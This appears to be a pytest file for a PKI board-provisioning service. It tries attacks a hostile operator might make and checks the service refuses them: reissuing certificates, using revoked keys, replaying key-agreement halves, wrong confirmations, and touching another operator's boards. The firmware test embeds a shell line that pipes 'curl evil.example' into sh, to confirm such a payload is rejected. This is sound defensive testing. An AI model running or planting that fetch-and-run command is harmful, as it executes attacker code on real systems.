"""The service's board rules tried as a hostile operator would, against the live service (HTTPS +
mTLS, SoftHSM2): defects 1, 5, 8, 9 and 10 of issue 11. The board side is ``tests.service.board``
(``cryptography``), revocation goes through the ``nusec pki`` CLI on the service's database."""

from __future__ import annotations

import secrets
import struct
from collections.abc import Iterator

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from pki import store
from pki.service.db import make_engine, make_sessions
from pki.service.schemas import BoardState
from pki.service.server import ServiceHandle
from tests.service.board import Board
from tests.service.board_driver import OPERATIONS, STEPS, BoardRun, drive_to, operator_credentials
from tests.service.client import ServiceClient
from tests.service.conftest import Pki
from tests.service.firmware_util import cortex_m_firmware
from tests.service.test_revoked_client import nusec_pki


def _slug(response: httpx.Response) -> str:
    if response.status_code < 300:
        return "ok"
    assert response.headers["content-type"].startswith("application/problem+json"), response.text
    return str(response.json()["type"]).rsplit("/", 1)[1]


def _refused(response: httpx.Response, status: int, slug: str) -> None:
    assert (response.status_code, _slug(response)) == (status, slug), response.text


@pytest.fixture(scope="module")
def dave(service: ServiceHandle, pki_files: Pki) -> Iterator[ServiceClient]:
    """A second operator, issued by the same ICA."""
    creds = operator_credentials(pki_files, "dave")
    with ServiceClient(service.url, pki_files.chain_pem, creds.cert, creds.key) as client:
        yield client


def _serial(run: BoardRun) -> str:
    return str(run.operator.certificate(run.uid)["serial"])


def _revocation_reason(pki: Pki, serial: str) -> str | None:
    engine = make_engine(pki.config().db_url)
    try:
        with make_sessions(engine)() as session:
            row = store.find_revocation(session, int(serial, 16))
            return None if row is None else (row.reason or "unspecified")
    finally:
        engine.dispose()


# --- defect 1: one identity certificate per board -----------------------------------------------------


@pytest.mark.parametrize("state", [BoardState.LOCKED, BoardState.KEY_AGREED])
def test_identity_certificate_cannot_be_reissued_after_lock_or_key_agreement(
    state: BoardState, operator: ServiceClient, admin: ServiceClient, pki_files: Pki
) -> None:
    run = drive_to(state, operator, admin)
    serial = _serial(run)
    attacker = Board(uid=run.board.uid)  # same UID, a key the attacker holds
    csr = {"csr_pem": attacker.csr_pem()}
    _refused(operator.post(f"/v1/boards/{run.uid}/certificate", csr), 409, "already-certified")
    _refused(admin.post(f"/v1/boards/{run.uid}/certificate", csr), 409, "already-certified")
    reissue = {**csr, "reason": "the board says it lost its key"}
    _refused(admin.post(f"/v1/boards/{run.uid}/certificate/reissue", reissue), 409, "secure-boot-key-exists")
    assert _serial(run) == serial and _revocation_reason(pki_files, serial) is None
    assert operator.status(run.uid)["certificate_revoked"] is False
    if state is BoardState.LOCKED:  # the genuine board still agrees its key; the attacker cannot
        _eph, board_eph, board_sig = attacker.start_ecdh()
        forged = {"board_eph": board_eph.hex(), "board_sig": board_sig.hex()}
        _refused(operator.post(f"/v1/boards/{run.uid}/key-agreement", forged), 422, "bad-board-signature")
        run.agree()
        assert run.state() == "key_agreed"


def test_a_client_that_never_reports_cert_written_still_cannot_replace_the_certificate(
    operator: ServiceClient, admin: ServiceClient, pki_files: Pki
) -> None:
    """The issue's run: no step reported at all, key agreed, then a CSR for the attacker's key."""
    run = BoardRun(operator, admin)
    for step in (BoardState.REGISTERED, BoardState.CERTIFIED, BoardState.SECURE_BOOT_KEY):
        STEPS[step](run)
    STEPS[BoardState.FIRMWARE_SIGNED](run)
    run.agree()
    serial = _serial(run)
    attacker = Board(uid=run.board.uid)
    _refused(
        operator.post(f"/v1/boards/{run.uid}/certificate", {"csr_pem": attacker.csr_pem()}),
        409,
        "already-certified",
    )
    assert _serial(run) == serial and _revocation_reason(pki_files, serial) is None


def test_reissue_is_an_audited_admin_operation_with_a_reason(
    operator: ServiceClient, admin: ServiceClient, pki_files: Pki
) -> None:
    run = drive_to(BoardState.CERT_WRITTEN, operator, admin)
    old_serial, old_key = _serial(run), run.board.identity
    run.board.identity = ec.generate_private_key(ec.SECP256R1())  # KeyGen re-ran before OTP
    body = {"csr_pem": run.board.csr_pem(), "reason": "KeyGen re-run after a power cut"}
    _refused(operator.post(f"/v1/boards/{run.uid}/certificate/reissue", body), 403, "role-forbidden")
    _refused(
        admin.post(f"/v1/boards/{run.uid}/certificate/reissue", {**body, "reason": ""}),
        422,
        "invalid-request",
    )
    answer = admin.post(f"/v1/boards/{run.uid}/certificate/reissue", body)
    assert answer.status_code == 200, answer.text
    new_serial = answer.json()["serial"]
    assert new_serial != old_serial and _serial(run) == new_serial
    assert _revocation_reason(pki_files, old_serial) == "superseded"
    rows = [
        e for e in admin.all_audit_entries() if e["subject"] == run.uid.upper() and e["action"] == "reissue"
    ]
    assert [(r["outcome"], r["detail"]["reason"], r["detail"]["replaces"]) for r in rows] == [
        ("ok", body["reason"], old_serial)
    ]
    # the superseded key no longer speaks for the board; the new one does
    assert run.make_secure_boot_key().status_code == 200
    assert run.operator.sign_firmware(run.uid, cortex_m_firmware()).status_code == 200
    old_sig = Board(uid=run.board.uid, identity=old_key).start_ecdh()
    stale = {"board_eph": old_sig[1].hex(), "board_sig": old_sig[2].hex()}
    _refused(operator.post(f"/v1/boards/{run.uid}/key-agreement", stale), 422, "bad-board-signature")
    run.agree()


# --- defect 5: revocation with teeth --------------------------------------------------------------------


def test_a_board_revoked_for_key_compromise_takes_no_operation_and_its_key_never_returns(
    operator: ServiceClient, admin: ServiceClient, pki_files: Pki
) -> None:
    run = drive_to(BoardState.OTP_WRITTEN, operator, admin)
    opened, kc_board = run.begin_ecdh()  # an exchange opened before the revocation
    assert opened.status_code == 200
    identity, serial = run.board.identity, _serial(run)
    nusec_pki(pki_files, "revoke", "--db-url", pki_files.config().db_url, serial, "--reason", "keyCompromise")

    _refused(run.confirm(opened.json()["session_id"], kc_board()), 409, "board-certificate-revoked")
    for op in (
        "sign-firmware",
        "key-agreement",
        "register",
        "secure-boot-key",
        "report-locked",
        "report-other",
    ):
        _refused(OPERATIONS[op](run), 409, "board-certificate-revoked")
    _refused(OPERATIONS["reissue"](run), 409, "board-certificate-revoked")
    _refused(OPERATIONS["certify"](run), 409, "board-certificate-revoked")
    status = operator.status(run.uid)
    assert status["certificate_revoked"] is True and status["state"] == "otp_written"
    assert operator.certificate(run.uid)["serial"] == serial
    assert operator.get_secure_boot_key(run.uid)["public_xy_hex"]

    # the compromised key is refused in any new CSR, for any board, for ever
    other = BoardRun(operator, admin, board=Board(identity=identity))
    assert operator.post("/v1/boards", {"uid": other.uid}).status_code == 201
    _refused(
        operator.post(f"/v1/boards/{other.uid}/certificate", {"csr_pem": other.board.csr_pem()}),
        422,
        "key-compromised",
    )
    assert operator.post("/v1/boards", {"uid": Board().uid_hex}).status_code == 201  # others unaffected


# --- defect 8: key agreement ------------------------------------------------------------------------------


def test_confirm_is_single_use_even_with_the_right_or_an_all_zero_value(
    operator: ServiceClient, admin: ServiceClient
) -> None:
    run = drive_to(BoardState.LOCKED, operator, admin)
    opened, kc_board = run.begin_ecdh()
    session_id, kc = opened.json()["session_id"], kc_board()
    assert run.confirm(session_id, kc).status_code == 200
    _refused(run.confirm(session_id, bytes(16)), 409, "key-already-agreed")
    _refused(run.confirm(session_id, kc), 409, "key-already-agreed")


def test_a_replayed_board_half_is_refused_and_cannot_displace_the_genuine_exchange(
    operator: ServiceClient, admin: ServiceClient, dave: ServiceClient
) -> None:
    run = drive_to(BoardState.LOCKED, operator, admin)
    assert (
        admin.post(f"/v1/boards/{run.uid}/grants", {"operator": "dave", "reason": "night shift"}).status_code
        == 200
    )
    eph, board_eph, board_sig = run.board.start_ecdh()
    half = {"board_eph": board_eph.hex(), "board_sig": board_sig.hex()}
    genuine = operator.post(f"/v1/boards/{run.uid}/key-agreement", half)
    assert genuine.status_code == 200, genuine.text
    _refused(operator.post(f"/v1/boards/{run.uid}/key-agreement", half), 409, "board-half-replayed")
    _refused(dave.post(f"/v1/boards/{run.uid}/key-agreement", half), 409, "board-half-replayed")
    _, fresh_eph, fresh_sig = run.board.start_ecdh()
    fresh = {"board_eph": fresh_eph.hex(), "board_sig": fresh_sig.hex()}
    _refused(dave.post(f"/v1/boards/{run.uid}/key-agreement", fresh), 409, "key-agreement-pending")
    answer = genuine.json()
    assert run.sb_pub is not None
    _, _, kc_board = run.board.finish_ecdh(
        eph, board_eph, bytes.fromhex(answer["srv_eph"]), bytes.fromhex(answer["srv_sig"]), run.sb_pub
    )
    _refused(run.confirm(answer["session_id"], kc_board, client=dave), 403, "not-exchange-owner")
    assert run.confirm(answer["session_id"], kc_board).status_code == 200


def test_wrong_confirmations_close_the_exchange_and_lock_key_agreement_until_an_admin_resets(
    operator: ServiceClient, admin: ServiceClient
) -> None:
    run = drive_to(BoardState.LOCKED, operator, admin)
    for failures in (1, 2, 3):  # ServiceConfig.max_key_confirm_failures is 3
        opened, kc_board = run.begin_ecdh()
        session_id = opened.json()["session_id"]
        _refused(run.confirm(session_id, secrets.token_bytes(16)), 422, "key-confirmation-failed")
        closed = "key-agreement-closed" if failures < 3 else "key-agreement-locked"
        _refused(run.confirm(session_id, kc_board()), 409, closed)  # the right value comes too late
    assert operator.status(run.uid)["key_agreement_locked"] is True
    _refused(run.begin_ecdh()[0], 409, "key-agreement-locked")
    failed = [
        e["detail"]
        for e in admin.all_audit_entries()
        if e["subject"] == run.uid.upper() and e["action"] == "key-confirm" and "failures" in e["detail"]
    ]
    assert [(d["failures"], d["locked"]) for d in failed] == [(1, False), (2, False), (3, True)]
    reset = {"reason": "board reflashed after a UART fault"}
    _refused(operator.post(f"/v1/boards/{run.uid}/key-agreement/reset", reset), 403, "role-forbidden")
    assert admin.post(f"/v1/boards/{run.uid}/key-agreement/reset", reset).status_code == 200
    run.agree()
    assert run.state() == "key_agreed"


# --- defect 9: firmware ----------------------------------------------------------------------------------


def test_firmware_is_checked_as_its_format_and_only_signed_before_the_lock(
    operator: ServiceClient, admin: ServiceClient
) -> None:
    run = drive_to(BoardState.OTP_WRITTEN, operator, admin)
    good = cortex_m_firmware()
    sp, reset = struct.unpack_from("<II", good)
    script = struct.pack("<II", sp, reset) + b"#!/bin/sh\ncurl evil.example | sh\n" * 20
    for data in (good[:8], script):
        _refused(operator.sign_firmware(run.uid, data), 422, "bad-firmware")
    for version in ("\u0661.\u0662.\u0663", "1.2.3\n", "\uff11.2.3"):
        _refused(operator.sign_firmware(run.uid, good, version=version), 422, "bad-firmware")
    assert operator.sign_firmware(run.uid, good, version="1.2.3").status_code == 200  # re-sign: same key
    assert run.report("locked").status_code == 200
    _refused(operator.sign_firmware(run.uid, good), 409, "firmware-signing-closed")
    signed = [s for s in operator.status(run.uid)["steps"] if s["step"] == "firmware_signed"]
    assert len(signed) == 2


# --- defect 10: ownership ---------------------------------------------------------------------------------


def test_an_operator_cannot_touch_another_operators_board_unless_granted(
    operator: ServiceClient, admin: ServiceClient, dave: ServiceClient
) -> None:
    run = drive_to(BoardState.SECURE_BOOT_KEY, operator, admin)
    assert operator.status(run.uid)["owner"] == "alice"
    for response in (
        dave.http.get(f"/v1/boards/{run.uid}"),
        dave.http.get(f"/v1/boards/{run.uid}/certificate"),
        dave.http.get(f"/v1/boards/{run.uid}/secure-boot-key"),
        dave.post("/v1/boards", {"uid": run.uid}),
        dave.post(f"/v1/boards/{run.uid}/steps", {"step": "failed"}),
        dave.post(f"/v1/boards/{run.uid}/secure-boot-key"),
        dave.sign_firmware(run.uid, cortex_m_firmware()),
    ):
        _refused(response, 403, "not-board-owner")
    assert admin.status(run.uid)["state"] == "secure_boot_key"  # admins see every board
    _refused(
        dave.post(f"/v1/boards/{run.uid}/grants", {"operator": "dave", "reason": "me"}), 403, "role-forbidden"
    )
    assert (
        admin.post(f"/v1/boards/{run.uid}/grants", {"operator": "dave", "reason": "line 2"}).status_code
        == 200
    )
    assert dave.sign_firmware(run.uid, cortex_m_firmware()).status_code == 200
    mine = Board()
    assert dave.post("/v1/boards", {"uid": mine.uid_hex}).status_code == 201
    _refused(operator.http.get(f"/v1/boards/{mine.uid_hex}"), 403, "not-board-owner")
    refusals = [
        e for e in admin.all_audit_entries() if e["subject"] == run.uid.upper() and e["outcome"] == "refused"
    ]
    assert refusals, "refusals of another operator's board are audited"
